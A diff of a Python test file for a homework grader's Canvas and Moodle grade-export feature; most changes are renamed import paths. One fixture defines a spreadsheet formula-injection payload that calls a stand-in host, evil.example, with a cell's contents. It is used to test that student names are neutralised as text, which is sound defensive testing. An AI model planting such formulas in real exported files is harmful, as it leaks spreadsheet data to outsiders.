@@ -1,4 +1,5 @@
-"""Grades into the LMS (grader/lms.py): the import files of Canvas and Moodle for a class of three, built from records
+"""Grades into the LMS (grader/reporting/lms.py): the import files of Canvas and Moodle for a class of three, built from
+records
 made by hand (nothing is graded here), the roster's checks, what is left out and listed, and the grades refused.
 """
 from __future__ import annotations
@@ -9,12 +10,15 @@ from pathlib import Path
 
 import pytest
 
-from grader import batch, cli, export, homeworks, lms, report_class
-from grader.results import CheckResult, PartResult
+from grader import batch, cli
+from grader.base import homeworks
+from grader.base.results import CheckResult, PartResult
+from grader.grading import submissions
+from grader.reporting import class_report, export, lms
 from kit import HW
 
 HOMEWORK = homeworks.load(HW)
-SECRET = "0123456789ab"  # a fingerprint of an instructor's own secret (grader.hidden.fingerprint's length)
+SECRET = "0123456789ab"  # a fingerprint of an instructor's own secret (grader.grading.hidden.fingerprint's length)
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
 
 
@@ -40,13 +44,13 @@ CLASS = {  # name -> (main parts passed, bonus parts passed): 100 + 10, 30 + 0, 
 
 
 def _record(name: str, passed=ALL, bonus=frozenset(), **kwargs) -> dict:
-    return report_class.record_from_results(name, _results(set(passed), set(bonus), **kwargs), [])
+    return class_report.record_from_results(name, _results(set(passed), set(bonus), **kwargs), [])
 
 
 def _records_dir(tmp_path: Path, records: list[dict]) -> Path:
     folder = tmp_path / "records"
     for r in records:
-        report_class.write_record(folder, r["name"], r)
+        class_report.write_record(folder, r["name"], r)
     return folder
 
 
@@ -72,7 +76,7 @@ def test_canvas_file_for_a_class_of_three(tmp_path, capsys):
     points (of 100) in the assignment's column and the bonus in its own; students by SIS Login ID, a Classroom login
     matched to its clone folder, and a name a spreadsheet would run as a formula kept as text."""
     records = _records_dir(tmp_path, [_record(n, p, b) for n, (p, b) in CLASS.items()])
-    code = report_class.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "canvas", "--roster",
+    code = class_report.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "canvas", "--roster",
                               str(_roster(tmp_path, CLASS_ROSTER)), "--lms-assignment", "ДЗ 6 (4242)"])
     assert code == 0, capsys.readouterr()
     assert _read(tmp_path / "out" / "lms-canvas.csv") == [
@@ -94,7 +98,7 @@ def test_moodle_file_for_a_class_of_three(tmp_path, capsys):
                                "bob;bob@uni.example;Борис Петров\n"  # CSV in a Russian locale: semicolons, no BOM
                                f'carol;carol@uni.example;"{quoted}"\n', bom=False)
     out_file = tmp_path / "moodle.csv"
-    code = report_class.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
+    code = class_report.main([str(records), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
                               str(roster), "--lms-file", str(out_file), "--homework", "ДЗ 6"])
     assert code == 0, capsys.readouterr()
     assert _read(out_file) == [["Email address", "Name", "ДЗ 6", "ДЗ 6 — бонус"],
@@ -108,9 +112,9 @@ def test_mismatches_are_listed_and_the_rest_is_written(tmp_path, capsys):
     """A graded submission no roster line names, a roster line naming no submission, and one whose submission was
     not graded: each listed, no grade of theirs in the file, exit 1; the matched grades are written."""
     records = [_record("alice", ALL, {"boss"}), _record("bob", {"dp"}), _record("dave", {"dp"}),
-               report_class.record_from_results("frank_empty", [], [], error="в папке frank_empty не найдено работы")]
+               class_report.record_from_results("frank_empty", [], [], error="в папке frank_empty не найдено работы")]
     roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\nerin,e3\nfrank_empty,f4\n")
-    code = report_class.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
+    code = class_report.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
                               "canvas", "--roster", str(roster)])
     err = capsys.readouterr().err
     assert code == 1
@@ -130,7 +134,7 @@ def test_a_grade_not_for_the_record_is_refused_and_nothing_is_written(tmp_path, 
     """One self-check record, or one graded with the kit's default secret, in a class refuses the whole file."""
     records = [_record("alice"), _record("bob", **refused_record)]
     roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\n")
-    code = report_class.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
+    code = class_report.main([str(_records_dir(tmp_path, records)), str(tmp_path / "out"), "--tables", "--lms",
                               "canvas", "--roster", str(roster)])
     err = capsys.readouterr().err
     assert code == 2 and says in err and "файл не записан" in err
@@ -176,7 +180,7 @@ def test_gradescope_submitters_are_matched_by_e_mail(tmp_path, capsys):
     (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
     roster = _roster(tmp_path, "submission,lms_id\nanna@uni.example,anna@uni.example\n"
                                "OLGA@uni.example,olga@uni.example\npetr@uni.example,petr@uni.example\n")
-    code = report_class.main([str(root), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
+    code = class_report.main([str(root), str(tmp_path / "out"), "--tables", "--lms", "moodle", "--roster",
                               str(roster), "--homework", "ДЗ 6"])
     assert code == 0, capsys.readouterr()
     assert [row[0::2] for row in _read(tmp_path / "out" / "lms-moodle.csv")] == [
@@ -197,8 +201,8 @@ def test_batch_writes_the_file_from_what_it_graded(tmp_path, monkeypatch, capsys
     secret = tmp_path / "secret"
     secret.write_text("an instructor's own secret\n", encoding="utf-8")
     monkeypatch.setenv("HWKIT_SECRET_FILE", str(secret))
-    subs = [batch.Submission("alice", tmp_path, "folder", results=_results(ALL, {"boss"})),
-            batch.Submission("bob", tmp_path, "folder", results=_results({"dp"}, set()))]
+    subs = [submissions.Submission("alice", tmp_path, "folder", results=_results(ALL, {"boss"})),
+            submissions.Submission("bob", tmp_path, "folder", results=_results({"dp"}, set()))]
     monkeypatch.setattr(batch, "run", lambda *args, **kwargs: subs)
     (tmp_path / "class").mkdir()
     roster = _roster(tmp_path, "submission,lms_id\nalice,a1\nbob,b2\n")
